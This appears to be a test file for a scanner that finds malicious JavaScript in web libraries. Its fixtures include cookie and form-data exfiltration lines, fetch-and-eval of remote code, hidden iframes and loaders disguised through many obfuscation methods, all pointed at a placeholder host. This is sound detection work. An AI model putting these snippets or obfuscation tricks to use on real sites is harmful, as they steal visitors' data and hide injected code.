import { describe, expect, it } from 'vitest'
import type { Analysis } from '../../../../src/engine/analysis.ts'
import { analyseJavaScript } from '../../../../src/engine/script/js/analyseJavaScript.ts'
import { javaScriptRules } from '../../../../src/engine/script/js/javaScriptRules.ts'
import {
  base64,
  codes,
  foreignHost,
  foreignScript,
  harmless,
  hostile,
  library,
  loaderOf,
  percent,
  word,
} from './hostileScripts.ts'

function rulesOf(text: string): number[] {
  return [...new Set(analyseJavaScript(text).hits.map(({ rule }) => rule))].sort((a, b) => a - b)
}

/** The text without the first range of the first hit. */
function cut(text: string, { hits }: Analysis): string {
  const span = hits[0]!.spans[0]!
  return text.slice(0, span.start) + text.slice(span.end)
}

describe('rules of the malicious tier', () => {
  it.each(hostile)('$rule is found in a script of its kind', ({ rule, text }) => {
    expect(rulesOf(text)).toContain(rule)
  })

  it.each(hostile)('$rule names exactly what was put behind a library', ({ text }) => {
    const infected = `${library}${text}`
    expect(cut(infected, analyseJavaScript(infected))).toBe(library)
  })

  it.each(hostile)('$rule names exactly what was put in front of a library, in its line', ({ text }) => {
    const infected = `${text}${library}`
    expect(cut(infected, analyseJavaScript(infected))).toBe(library)
  })

  it('all have a script of their kind', () => {
    const malicious = javaScriptRules.filter(({ tier }) => tier === 'malicious').map(({ rule }) => rule)
    expect(hostile.map(({ rule }) => rule)).toEqual(malicious)
  })

  it.each(harmless.map((text, index) => ({ index, text })))(
    'say nothing of usual script $index',
    ({ text }) => {
      expect(rulesOf(text)).toEqual([])
    },
  )
})

describe('rules of the suspicious tier', () => {
  const samples: readonly { readonly rule: number; readonly text: string }[] = [
    { rule: 2530, text: `var _0x1a2b=['a','b'];${'console.log(_0x1a2b[0]);'.repeat(20)}` },
    { rule: 2531, text: `${word('ev', 'al')}(atob('${base64("console.log('hf_test hf_test hf_test')")}'));` },
    { rule: 2532, text: `${library.repeat(4)}\n${loaderOf(`'${foreignScript}'`)}` },
    {
      rule: 2533,
      text: `if(/android|iphone/i.test(navigator.userAgent)){window.location='https://${foreignHost}/m'}`,
    },
    {
      rule: 2534,
      text: `var f=document.createElement('iframe');f.src='https://${foreignHost}/';f.style.display='none';document.body.appendChild(f);`,
    },
    {
      rule: 2535,
      text: `document.querySelector('#news').onsubmit=function(){fetch('https://${foreignHost}/n?m='+document.querySelector('#mail').value)};`,
    },
    {
      rule: 2536,
      text: `fetch('https://${foreignHost}/a').then(function(r){return r.text()}).then(function(t){(0,${word('ev', 'al')})(t)});`,
    },
    { rule: 2537, text: `new Image().src='https://${foreignHost}/c?'+document.cookie;` },
    {
      rule: 2538,
      text: `document.write(unescape('${percent(`<script src="${foreignScript}"></script>`)}'));`,
    },
  ]

  it.each(samples)('$rule is found in a script of its kind', ({ rule, text }) => {
    expect(rulesOf(text)).toEqual([rule])
  })

  it('all have a script of their kind', () => {
    const suspicious = javaScriptRules.filter(({ tier }) => tier === 'suspicious').map(({ rule }) => rule)
    expect(samples.map(({ rule }) => rule)).toEqual(suspicious)
  })
})

describe('addresses that nobody is to read', () => {
  const ways: readonly { readonly name: string; readonly address: string }[] = [
    { name: 'character codes', address: codes(foreignScript) },
    { name: 'base64', address: `atob('${base64(foreignScript)}')` },
    { name: 'base64 twice', address: `atob(atob('${base64(base64(foreignScript))}'))` },
    {
      name: 'backwards',
      address: `'${foreignScript.split('').reverse().join('')}'.split('').reverse().join('')`,
    },
    { name: 'escapes', address: `'${hexEscapes(foreignScript)}'` },
    {
      name: 'letters',
      address: `[${foreignScript
        .split('')
        .map((char) => `'${char}'`)
        .join(',')}].join('')`,
    },
    { name: 'pieces', address: foreignScript.replace(/.{4}/g, "$&'+'").replace(/^|$/g, "'") },
    { name: 'junk', address: `'${foreignScript.replace(/./g, '$&Zq')}'.replace(/Zq/g,'')` },
    {
      name: 'shifted letters',
      address: `(function(t){var o='';for(var i=0;i<t.length;i++)o+=String.fromCharCode(t.charCodeAt(i)-1);return o})('${shifted(foreignScript, 1)}')`,
    },
    {
      name: 'xor',
      address: `[${[...Buffer.from(foreignScript)].map((code) => code ^ 0x2a).join(',')}].map(function(c){return String.fromCharCode(c^42)}).join('')`,
    },
    {
      name: 'hexadecimal',
      address: `(function(h){var o='';for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16));return o})('${Buffer.from(foreignScript).toString('hex')}')`,
    },
  ]

  it.each(ways)('are read: $name', ({ address }) => {
    expect(rulesOf(loaderOf(address))).toContain(2502)
  })

  it('are not hidden when they stand there', () => {
    expect(rulesOf(loaderOf(`'${foreignScript}'`))).toEqual([])
  })

  it('come out of a table that a function turns until a sum is right', () => {
    const text = turnedTable()
    const infected = `${library}${text}`
    const analysis = analyseJavaScript(infected)
    expect(analysis.hits.map(({ rule }) => rule)).toContain(2502)
    expect(cut(infected, analysis)).toBe(library)
  })

  it('come out of code that unpacks itself, which is a layer', () => {
    const { hits, layers } = analyseJavaScript(packed())
    expect(hits.map(({ rule }) => rule)).toContain(2538)
    expect(layers.map(({ text }) => text)).toEqual([
      `var s=document.createElement("script");s.src="${foreignScript}";document.head.appendChild(s);`,
    ])
  })
})

describe('what is told', () => {
  it('are the steps from source to sink, in ASCII', () => {
    const skimmer = hostile.find(({ rule }) => rule === 2500)!
    const [hit] = analyseJavaScript(skimmer.text).hits
    expect(hit!.trace).toEqual(['payment field', 'form field', 'XMLHttpRequest', foreignHost])
  })

  it('is the inner statement of a library that somebody wrote into', () => {
    const filler = '  function hfTest() { return 1 }\n'.repeat(400)
    const payload = loaderOf(codes(foreignScript))
    const text = `(function(){\n${filler}  ${payload}\n${filler}})();\n`
    expect(cut(text, analyseJavaScript(text))).toBe(text.replace(payload, ''))
  })

  it('holds behind broken code', () => {
    const broken = 'var a = {;\n'
    const payload = loaderOf(codes(foreignScript))
    const text = `${broken}${payload}\n`
    expect(cut(text, analyseJavaScript(text))).toBe(`${broken}\n`)
  })

  it('holds with bytes of other alphabets, at byte offsets', () => {
    const text = Buffer.from(`var gr\u00f6\u00dfe = "\u4e2d\u6587";\n`).toString('latin1')
    const payload = loaderOf(codes(foreignScript))
    expect(cut(`${text}${payload}`, analyseJavaScript(`${text}${payload}`))).toBe(text)
  })
})

function hexEscapes(text: string): string {
  return [...Buffer.from(text)].map((code) => `\\x${code.toString(16).padStart(2, '0')}`).join('')
}

function shifted(text: string, by: number): string {
  return [...Buffer.from(text)].map((code) => String.fromCharCode(code + by)).join('')
}

/** As common packers write it: the table has to be turned twice. */
function turnedTable(): string {
  const table = [
    '12hf',
    '3test',
    'createElement',
    'script',
    foreignScript,
    'src',
    'head',
    'appendChild',
    '9a',
    '4b',
  ]
  return [
    `function _0xaa11(){var t=${JSON.stringify(table)};_0xaa11=function(){return t};return _0xaa11()}`,
    `function _0xbb22(a,b){var t=_0xaa11();return _0xbb22=function(c,d){c=c-0x64;var e=t[c];return e},_0xbb22(a,b)}`,
    `(function(f,n){var g=_0xbb22,t=f();while(!![]){try{var s=parseInt(g(0x6a))*parseInt(g(0x6b))/0x24+parseInt(g(0x6c))/0xc+parseInt(g(0x6d))/0x3;if(s===n)break;else t['push'](t['shift']())}catch(e){t['push'](t['shift']())}}})(_0xaa11,0x3);`,
    `(function(){var q=_0xbb22,s=document[q(0x64)](q(0x65));s[q(0x67)]=q(0x66);document[q(0x68)][q(0x69)](s)})();`,
  ].join('\n')
}

/** As the packer writes it whose functions have the parameters p, a, c, k, e and d. */
function packed(): string {
  const words: string[] = []
  const code = `var s=document.createElement("script");s.src="${foreignScript}";document.head.appendChild(s);`
  const numbered = code.replace(/\w+/g, (name) => {
    if (!words.includes(name)) words.push(name)
    return words.indexOf(name).toString(36)
  })
  return `${word('ev', 'al')}(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('${numbered}',36,${words.length},'${words.join('|')}'.split('|'),0,{}))`
}
